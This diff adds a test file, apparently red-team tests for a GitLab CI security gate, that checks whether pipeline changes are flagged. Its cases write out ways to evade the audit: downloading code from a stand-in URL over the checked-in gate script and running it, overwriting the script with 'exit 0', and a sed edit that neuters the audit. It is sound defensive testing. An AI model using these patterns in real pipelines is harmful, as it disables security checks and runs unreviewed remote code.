@@ -1,0 +1,80 @@
+// redteam158: what redteam156/157 closed on GitHub, on GitLab too, and code fetched from the network.
+// 1. A gate job's lines before its audit (its own before_script, default:'s, a template's by
+//    `extends:` or `!reference`, a local include's) write a checkout file its script then runs
+//    (`curl -sSLo ci/gate.sh URL` then `bash ci/gate.sh`): the chain read the file at the commit, the
+//    job runs the written one.
+// 2. `default:` (before_script, hooks) from a remote or project include no file here holds: a job
+//    without its own lines takes them. Kept only where the include is as the start wrote it and the
+//    job took default:'s lines there too.
+// 3. `curl -sSL URL | sh` (and its kin) before the audit runs code no commit holds: it can plant the
+//    program the audit then runs.
+// 4. A gate job's image set by a template input (`$[[ inputs.image ]]`): an input changed since the
+//    start is an image change.
+import { gateBatch } from '../helpers/gate-batch.js';
+import { cleanupTemp } from '../helpers/repo.js';
+
+afterAll(cleanupTemp);
+
+const CI = '.gitlab-ci.yml';
+const URL = 'https://example.com/x';
+const FILES = {
+  'ci/gate.sh': 'npx gitguard audit --fail-on high\n',
+  Makefile: 'audit:\n\tnpx gitguard audit --fail-on high\n',
+  'package.json': '{"name":"x","version":"1.0.0","scripts":{"gate":"npx gitguard audit --fail-on high"}}\n',
+};
+const list = (lines: readonly string[], indent = '    '): string =>
+  lines.map((l) => `${indent}- ${JSON.stringify(l)}\n`).join('');
+/** A gate job named gitguard with `before` as its before_script and `script` as its script. */
+const job = (before: readonly string[], script = ['bash ci/gate.sh'], extra = ''): string =>
+  `gitguard:\n${extra}${before.length ? `  before_script:\n${list(before)}` : ''}  script:\n${list(script)}`;
+const gl = (text: string, more: Record<string, string> = {}): Record<string, string> => ({
+  ...FILES,
+  [CI]: text,
+  ...more,
+});
+
+describe('1. GitLab: the gate job writes a checkout file, then runs it', () => {
+  const start = gl(job([]));
+  const batch = gateBatch(start);
+  const lost: Array<[string, Record<string, string>]> = [
+    ['its before_script: curl -sSLo ci/gate.sh', gl(job([`curl -sSLo ci/gate.sh ${URL}`]))],
+    ['its before_script: wget -O', gl(job([`wget -q -O ci/gate.sh ${URL}`]))],
+    ['its before_script: cp', gl(job(['cp /tmp/x ci/gate.sh']))],
+    ['its before_script: sed -i', gl(job(["sed -i 's/audit/--version/' ci/gate.sh"]))],
+    ['its before_script: git apply', gl(job([`curl -sSLo /tmp/p.diff ${URL}`, 'git apply /tmp/p.diff']))],
+    ['its before_script: echo > ci/gate.sh', gl(job(['echo "exit 0" > ci/gate.sh']))],
+    ['in the script itself, before running it', gl(job([], ['echo "exit 0" > ci/gate.sh', 'bash ci/gate.sh']))],
+    ["default:'s before_script", gl(`default:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}${job([])}`)],
+    [
+      'a template by extends:',
+      gl(
+        `.setup:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}${job([], undefined, '  extends: .setup\n')}`,
+      ),
+    ],
+    [
+      'a template by !reference',
+      gl(
+        `.setup:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}gitguard:\n  before_script:\n    - !reference [.setup, before_script]\n  script:\n    - bash ci/gate.sh\n`,
+      ),
+    ],
+    [
+      "a local include's default:",
+      gl(`include:\n  - local: ci/setup.yml\n${job([])}`, {
+        'ci/setup.yml': `default:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}`,
+      }),
+    ],
+    ['a Makefile written, then make audit', gl(job([`curl -sSLo Makefile ${URL}`], ['make audit']))],
+    ['package.json written, then npm run gate', gl(job(['cp /tmp/p.json package.json'], ['npm run gate']))],
+  ];
+  for (const [name, after] of lost) test(`lost: ${name}`, batch.add(start, after, false), 600_000);
+  const kept: Array<[string, Record<string, string>]> = [
+    ['the gate script as committed', gl(job(['echo starting']))],
+    ['a write into /tmp, then bash ci/gate.sh', gl(job([`curl -sSLo /tmp/x ${URL}`, 'echo hi > /tmp/log']))],
+    ['npm ci, then bash ci/gate.sh', gl(job(['npm ci']))],
+    [
+      'a download into dist/, then npx gitguard audit',
+      gl(job([`curl -sSLo dist/x.tgz ${URL}`], ['npx gitguard audit --fail-on high'])),
+    ],
+  ];
+  for (const [name, after] of kept) test(`kept: ${name}`, batch.add(start, after, true), 600_000);
+});
